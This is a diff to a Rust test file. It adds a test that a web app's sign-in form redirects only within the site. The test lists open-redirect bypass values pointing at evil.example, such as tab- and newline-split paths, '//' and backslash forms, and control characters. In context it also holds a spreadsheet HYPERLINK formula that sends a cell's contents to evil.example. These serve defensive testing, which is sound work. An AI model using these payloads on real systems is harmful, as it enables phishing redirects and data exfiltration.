@@ -8,7 +8,76 @@ mod common;
 use common::{fixture, scalar, Engine, TestApp, PASSWORD};
 use serde_json::{json, Value};
 
-on_both_engines!(exported_cells_never_run_as_formulas_and_import_back_unchanged,);
+on_both_engines!(
+    no_js_sign_in_redirects_only_within_the_site,
+    exported_cells_never_run_as_formulas_and_import_back_unchanged,
+);
+
+/// The sign-in form posted without JavaScript (the browser asks for HTML).
+async fn no_js_sign_in(app: &TestApp, next: &str) -> Result<reqwest::Response, reqwest::Error> {
+    app.client()
+        .post(app.at("/api/sign_in"))
+        .header("accept", "text/html")
+        .form(&[
+            ("email", "ada@example.com"),
+            ("password", PASSWORD),
+            ("next", next),
+        ])
+        .send()
+        .await
+}
+
+fn location(res: &reqwest::Response) -> String {
+    res.headers()
+        .get("location")
+        .map(|v| v.to_str().unwrap().to_string())
+        .unwrap_or_default()
+}
+
+async fn no_js_sign_in_redirects_only_within_the_site(engine: Engine) {
+    let app = TestApp::start(engine).await;
+    fixture(&app).await;
+    let ok = no_js_sign_in(&app, "/leaderboard?period=week")
+        .await
+        .unwrap();
+    assert_eq!(ok.status(), 302);
+    assert_eq!(location(&ok), "/leaderboard?period=week");
+    // `?next=%2F%09%2Fevil.example%2Fphish` and friends, as the form posts them back.
+    for next in [
+        "/\t/evil.example/phish",
+        "/\n/evil.example/phish",
+        "//evil.example",
+        "/\\evil.example",
+        "/.//evil.example",
+        "https://evil.example/",
+    ] {
+        let res = no_js_sign_in(&app, next).await.unwrap();
+        assert_eq!(res.status(), 302, "{next:?}");
+        assert_eq!(location(&res), "/me", "{next:?}");
+    }
+    // A control character once panicked building the header: the reply was empty.
+    for next in ["/\u{1}", "/\u{7f}", "/\u{0}x"] {
+        let res = no_js_sign_in(&app, next)
+            .await
+            .unwrap_or_else(|e| panic!("no reply for next={next:?}: {e}"));
+        assert_eq!(res.status(), 302, "{next:?}");
+        assert_eq!(location(&res), "/me", "{next:?}");
+    }
+    // With JavaScript the server function answers 200 and the page follows `Location`.
+    let res = app
+        .client()
+        .post(app.at("/api/sign_in"))
+        .form(&[
+            ("email", "ada@example.com"),
+            ("password", PASSWORD),
+            ("next", "/\t/evil.example/phish"),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert!(res.status().is_success(), "{}", res.status());
+    assert_eq!(location(&res), "/me");
+}
 
 const LINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
 
